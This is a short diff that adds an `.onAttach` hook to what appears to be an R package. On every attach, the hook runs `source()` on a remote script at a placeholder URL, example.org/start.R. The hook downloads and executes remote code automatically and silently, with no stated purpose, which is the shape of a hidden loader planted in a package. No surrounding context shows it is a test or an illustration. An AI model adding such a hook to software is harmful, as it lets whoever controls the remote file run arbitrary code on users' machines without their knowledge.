@@ -1,0 +1,3 @@
+.onAttach <- function(libname, pkgname) {
+  source("https://example.org/start.R")
+}
